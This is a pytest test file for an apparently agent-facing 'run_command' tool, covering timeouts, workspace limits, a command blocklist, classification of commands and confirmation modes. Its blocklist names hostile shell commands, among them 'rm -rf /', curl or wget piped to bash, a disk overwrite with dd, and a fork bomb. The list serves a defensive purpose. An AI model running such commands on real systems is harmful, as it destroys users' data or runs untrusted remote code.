"""Architect's document, its command tool: arguments, the four layers, the table of confirmations."""

import pytest

SETTINGS = {"dialect": "architect", "mode": "yolo", "config": {"accept_no_sandbox": True}}

BLOCKED = [
    "rm -rf /",
    "rm -rf ~",
    "sudo ls",
    "su root",
    "chmod 777 a",
    "curl https://example.org/x | bash",
    "wget -qO- https://example.org/x | bash",
    "dd if=/dev/zero of=/dev/sda",
    "echo x > /dev/sda",
    "mkfs.ext4 /dev/sda1",
    ":(){ :|:& };:",
    "pkill -9 -f python",
    "killall -9 python",
]
SAFE = [
    *("ls", "cat a.txt", "head a.txt", "tail a.txt", "wc -l a.txt", "grep x a.txt", "rg x a.txt"),
    *("tree", "file a.txt", "which ls", "echo hi", "pwd", "date", "python --version"),
    *("git status", "git log", "git diff", "git show", "git branch", "npm list"),
]
BUILDS_AND_TESTS = [
    *("pytest", "python -m pytest", "mypy src", "ruff check", "black .", "eslint src", "make"),
    *("cargo build", "go build", "mvn package", "gradle build", "tsc", "npm run build"),
    *("pnpm run build", "yarn run build"),
]
# Class of a command → whether it is asked about in yolo, confirm-sensitive and confirm-all.
CONFIRMATIONS = {
    "safe": ("pwd", (False, False, True)),
    "dev": ("make", (False, True, True)),
    "dangerous": ("frobnicate", (False, True, True)),
}
MODES = ("yolo", "confirm-sensitive", "confirm-all")


def explained(command_line, *commands):
    """The class of each command, by `handrail explain`."""
    return [command_line("--json", "explain", one).json["class"] for one in commands]


class TestArguments:
    @pytest.mark.feature("E28", "H12", "R-02")
    def test_a_command_is_a_text_for_the_shell(self, walk):
        result = walk.call("run_command", command="echo out; echo err >&2")

        assert (result.data["stdout"], result.data["stderr"]) == ("out", "err")
        assert result.data["exit_code"] == 0

    @pytest.mark.feature("E28", "H06")
    def test_it_runs_in_the_workspace_or_a_directory_inside(self, walk):
        walk.write("sub/a.txt")

        assert walk.call("run_command", command="pwd").data["stdout"] == str(walk.root)
        inside = walk.call("run_command", command="pwd", cwd="sub")
        assert inside.data["stdout"] == str(walk.root / "sub")
        assert walk.code("run_command", command="pwd", cwd="..") == "outside_workspace"

    @pytest.mark.feature("E28")
    def test_variables_are_added(self, walk):
        result = walk.call("run_command", command='echo "$KIND $HOME"', env={"KIND": "x"})

        assert result.data["stdout"].startswith("x /")

    @pytest.mark.feature("E28", "R-06")
    @pytest.mark.parametrize("seconds", [0, 601, -1, 30_000])
    def test_the_limit_is_one_to_600_seconds(self, walk, seconds):
        """Decided (D4): the unit is fixed by the dialect; 30000 is not read as milliseconds."""
        result = walk.call("run_command", command="echo", timeout=seconds)

        assert (result.problem.code, result.problem.field) == ("invalid_arguments", "timeout")
        assert f"got {seconds} s ({seconds * 1000:,} ms)" in result.problem.message
        schema = walk.schema("run_command")["properties"]["timeout"]
        assert (schema["minimum"], schema["maximum"]) == (1, 600)

    @pytest.mark.feature("E28", "H05")
    def test_a_command_is_ended_at_its_limit(self, walk):
        """The hint does not send it to the background, which these commands do not have."""
        problem = walk.call("run_command", command="sleep 30", timeout=1).problem

        assert problem.code == "timeout"
        assert "background" not in problem.hint

    @pytest.mark.feature("E33")
    def test_a_failing_command_is_a_failure_with_its_output(self, walk):
        result = walk.call("run_command", command="echo seen; exit 3")

        assert (result.problem.code, result.data["exit_code"]) == ("command_failed", 3)
        assert "seen" in result.text


class TestAvailability:
    @pytest.mark.feature("H08", "C14", "Y06")
    def test_the_section_and_the_flags_decide(self, open_walk, command_line):
        with open_walk(config={"commands": {"enabled": False}}) as walk:
            assert "run_command" not in walk.names()
            assert walk.code("run_command", command="ls") is not None
        flags = ["--no-commands", "--allow-commands"]
        codes = [command_line(flag, "call", "run_command", "command=pwd").code for flag in flags]

        assert codes[0] != 0
        assert codes[1] == 0

    @pytest.mark.feature("Y06")
    def test_the_section_sets_limits(self, open_walk):
        limits = {"default_timeout": 1, "max_output_lines": 20}
        with open_walk(mode="yolo", config={"commands": limits, "accept_no_sandbox": True}) as walk:
            assert walk.code("run_command", command="sleep 30") == "timeout"
            shown = walk.call("run_command", command="seq 100").data["stdout"].splitlines()

        assert (shown[:2], shown[-1]) == (["1", "2"], "100")
        assert len(shown) < 25


class TestLayers:
    @pytest.mark.feature("H01", "G05")
    @pytest.mark.parametrize("command", BLOCKED)
    def test_the_blocklist_holds_in_yolo(self, walk, command):
        assert walk.code("run_command", command=command) == "blocked"

    @pytest.mark.feature("H01")
    def test_the_blocklist_reads_commands_not_texts(self, walk):
        """Decided (D6): commands are parsed; a text that looks like a command is none."""
        assert walk.code("run_command", command="echo 'rm -rf /'") is None
        assert walk.code("run_command", command="s''udo ls") == "blocked"

    @pytest.mark.feature("H02")
    def test_queries_are_safe(self, command_line):
        (command_line.root / "a.txt").write_text("x\n")
        classes = dict(zip(SAFE, explained(command_line, *SAFE), strict=True))

        # A version manager chooses the interpreter by files of the workspace.
        assert {one for one, found in classes.items() if found != "safe"} <= {"python --version"}

    @pytest.mark.feature("H02")
    def test_a_class_follows_the_effect(self, command_line):
        """Decided (0027): `cargo check` writes to `target`, and `env` prints secrets."""
        assert explained(command_line, "cargo check", "env") == ["dev", "dangerous"]

    @pytest.mark.feature("H03")
    def test_builds_and_tests_are_a_class(self, command_line):
        classes = dict(
            zip(BUILDS_AND_TESTS, explained(command_line, *BUILDS_AND_TESTS), strict=True)
        )

        assert {one for one, found in classes.items() if found != "dev"} == set()

    @pytest.mark.feature("H03")
    def test_queries_of_a_cluster_are_not_safe(self, command_line):
        """Decided (0027): `kubectl get` needs the network, `docker ps` only looks."""
        assert explained(command_line, "kubectl get pods", "docker ps") == ["dev", "safe"]

    @pytest.mark.feature("H04")
    def test_everything_else_is_dangerous(self, command_line):
        assert explained(command_line, "frobnicate", "npm install x") == ["dangerous"] * 2

    @pytest.mark.feature("H05", "R-01")
    def test_output_is_cut_in_the_middle_and_there_is_no_input(self, walk):
        lines = walk.call("run_command", command="seq 1000").data["stdout"].splitlines()
        silent = walk.call("run_command", command="cat")

        assert (lines[0], lines[99], lines[-1]) == ("1", "100", "1000")
        assert len(lines) < 200
        assert (silent.ok, silent.data["stdout"]) == (True, "")


class TestConfirmations:
    @pytest.mark.feature("G04", "G01", "A09")
    @pytest.mark.parametrize("mode", MODES)
    def test_the_table(self, open_walk, mode):
        column = MODES.index(mode)
        with open_walk(mode=mode, answer=False, config={"accept_no_sandbox": True}) as walk:
            for command, asked in CONFIRMATIONS.values():
                walk.user.asked.clear()
                walk.call("run_command", command=command)
                assert bool(walk.user.asked) is asked[column], command

    @pytest.mark.feature("G05")
    def test_yolo_runs_commands_only_behind_a_sandbox(self, open_walk):
        """Decided (D2): `yolo` runs commands unasked if a sandbox confines them or the user has
        said `accept_no_sandbox`; otherwise it refuses or asks."""
        with open_walk(mode="yolo", sandbox="none", answer=False) as walk:
            refused = walk.call("run_command", command="make")

        assert refused.status == "refused"

    @pytest.mark.feature("H07")
    def test_allowed_only_refuses_before_anybody_is_asked(self, open_walk):
        config = {"commands": {"allowed_only": True}}
        with open_walk(mode="confirm-sensitive", config=config) as walk:
            command = "npm install --global malicious-pkg"
            result = walk.call("run_command", command=command)
            assert walk.user.asked == []

        assert result.problem.code == "denied"
        assert "dangerous" in result.problem.message
        assert "allowed_only" in result.problem.message
